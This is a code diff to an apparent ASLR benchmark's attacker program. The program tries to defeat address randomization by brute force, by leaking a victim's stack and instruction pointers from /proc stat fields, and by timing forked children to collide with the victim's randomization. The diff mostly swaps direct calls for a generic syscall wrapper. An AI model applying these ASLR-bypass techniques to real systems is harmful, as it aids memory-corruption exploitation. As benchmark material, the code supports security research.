@@ -9,7 +9,7 @@
  * RULES (2.6.29 or 6.x, default 2.6.29) is the kernel's ASLR code, which the
  * attacker knows from its version.
  */
-#include "kernel/user/lib/ulib.h"
+#include "kernel/user/aslrbench_user.h"
 
 /*
  * collision: the pool has two children per jiffy the victim's start could
@@ -21,7 +21,7 @@
 
 static long lab(long op, long a, long b)
 {
-	return syscall3(__NR_aslrbench_lab, op, a, b);
+	return sys(__NR_aslrbench_lab, op, a, b);
 }
 
 static void submit(int region, uint64_t v)
@@ -86,7 +86,7 @@ static int is_victim(int pid)
 static int scan_new_pids(int *seen, int *nseen)
 {
 	int pids[64];
-	long n = syscall2(__NR_getdents_pids, pids, 64);
+	long n = sys(__NR_getdents_pids, pids, 64);
 
 	for (long i = 0; i < n; i++) {
 		int k = 0;
@@ -125,7 +125,7 @@ static int find_victim(long hz, int hint)
 			return v;
 		if (round % 16 == 15 && now_jiffies() >= deadline)
 			return -1;
-		sched_yield();
+		sys(__NR_sched_yield);
 	}
 }
 
@@ -160,7 +160,8 @@ static void own_layout(uint64_t *stack_top, uint64_t *mmap_base, uint64_t *exe)
 		}
 		line = *end ? end + 1 : end;
 	}
-	m = mmap_anon(PAGE, 3); /* the first mapping sits right below mmap_base */
+	m = sys(__NR_mmap, 0, PAGE, 3, MAP_PRIVATE | MAP_ANONYMOUS, -1,
+		0); /* the first mapping sits right below mmap_base */
 	*mmap_base = m > 0 ? (uint64_t)m + PAGE : 0;
 	/*
 	 * aslr_rules=2.6.29 maps a PIE top-down right below mmap_base, so the
@@ -182,7 +183,7 @@ static void own_layout(uint64_t *stack_top, uint64_t *mmap_base, uint64_t *exe)
 		}
 	}
 	if (m > 0)
-		munmap((void *)m, PAGE);
+		sys(__NR_munmap, (void *)m, PAGE);
 }
 
 static int report(void)
@@ -218,7 +219,7 @@ static void brute_force(void)
 	mtop = top - (128ULL << 20);
 	if (rules_6x && !ia32)
 		mtop = top - (8ULL << 20) - (0x3fffffULL * PAGE) - (1ULL << 20);
-	getrandom(r, sizeof(r), 0);
+	sys(__NR_getrandom, r, sizeof(r), 0);
 	submit(LAB_STACK, top - (r[0] & ((1ULL << sbits) - 1)) * PAGE);
 	submit(LAB_MMAP, mtop - (r[1] & ((1ULL << (ia32 ? 8 : 28)) - 1)) * PAGE);
 	if (rules_6x)
@@ -237,7 +238,7 @@ static void proc_leak(const char *vpid)
 	for (int i = 0; i < 100000 && state != 'S'; i++) {
 		stat_field(vpid, 3, &state); /* wait until it sleeps in the kernel */
 		if (state != 'S')
-			sched_yield();
+			sys(__NR_sched_yield);
 	}
 	ss = stat_field(vpid, 28, 0);
 	eip = stat_field(vpid, 30, 0);
@@ -270,10 +271,10 @@ static void sleep_until_jiffy(uint64_t target, long hz)
 		uint64_t ns = (target - now - 1) * 1000000000ULL / (uint64_t)hz;
 		struct timespec ts = {(int64_t)(ns / 1000000000ULL), (int64_t)(ns % 1000000000ULL)};
 
-		nanosleep(&ts, 0);
+		sys(__NR_nanosleep, &ts, 0);
 	}
 	while (now_jiffies() < target)
-		sched_yield();
+		sys(__NR_sched_yield);
 }
 
 /*
@@ -297,7 +298,7 @@ static long candidates_max(long hz)
 static void collision_child(int idx, long pool, long hz)
 {
 	char vpid[12], *argv[] = {"lab", "report", 0};
-	int victim = find_victim(hz, (int)(getpid() + pool - idx));
+	int victim = find_victim(hz, (int)(sys(__NR_getpid) + pool - idx));
 	uint64_t seen = now_jiffies(), cs, first, last, n, target;
 
 	/*
@@ -306,7 +307,7 @@ static void collision_child(int idx, long pool, long hz)
 	 * victim, the target would lie 2^64 jiffies ahead and the child would
 	 * sleep forever (its parent, and the lab, waiting for it).
 	 */
-	if (victim < 0 || victim <= getpid())
+	if (victim < 0 || victim <= sys(__NR_getpid))
 		exit(1);
 	snprintf(vpid, sizeof(vpid), "%d", victim);
 	cs = stat_field(vpid, 22, 0);
@@ -315,9 +316,9 @@ static void collision_child(int idx, long pool, long hz)
 	if (last > seen)
 		last = seen; /* it had started when we saw it */
 	n = last >= first ? last - first + 1 : 1;
-	target = (uint64_t)victim + first + (uint64_t)idx % n - (uint64_t)getpid();
+	target = (uint64_t)victim + first + (uint64_t)idx % n - (uint64_t)sys(__NR_getpid);
 	sleep_until_jiffy(target, hz);
-	syscall3(__NR_execve, "lab", argv, 0);
+	sys(__NR_execve, "/bin/lab", argv, 0);
 	exit(1);
 }
 
@@ -331,8 +332,17 @@ static int attack(const char *strategy, long hz)
 
 		if (pool > POOL_MAX)
 			pool = POOL_MAX;
+		/*
+		 * Run the children's path once first: our text is a file mapping
+		 * filled as it is first run, and fork copies only what is mapped,
+		 * so each child would otherwise fault the same pages on its own,
+		 * ticks it does not have between seeing the victim and exec.
+		 */
+		is_victim((int)sys(__NR_getpid));
+		stat_field("self", 22, 0);
+		now_jiffies();
 		for (int i = 0; i < pool; i++) {
-			long pid = fork();
+			long pid = sys(__NR_fork);
 
 			if (pid == 0)
 				collision_child(i, pool, hz);
@@ -340,21 +350,21 @@ static int attack(const char *strategy, long hz)
 				break;
 		}
 		lab(LAB_OP_READY, 0, 0);
-		while (wait4(-1, &status, 0, 0) > 0)
+		while (sys(__NR_wait4, -1, &status, 0, 0) > 0)
 			;
 		return 0;
 	}
 	if (!strcmp(strategy, "state-replay")) {
 		/* The latest layout we can observe is our own newest child's. */
-		long pid = spawn("lab", (char *const[]){"lab", "report", 0});
+		long pid = spawn("/bin/lab", (char *const[]){"lab", "report", 0});
 
 		if (pid > 0)
-			wait4((int)pid, &status, 0, 0);
+			sys(__NR_wait4, (int)pid, &status, 0, 0);
 		lab(LAB_OP_READY, 0, 0);
 		return find_victim(hz, (int)pid + 1) > 0 ? 0 : 1;
 	}
 	lab(LAB_OP_READY, 0, 0);
-	victim = find_victim(hz, (int)getpid() + 1);
+	victim = find_victim(hz, (int)sys(__NR_getpid) + 1);
 	if (victim < 0)
 		return 1;
 	snprintf(vpid, sizeof(vpid), "%d", victim);
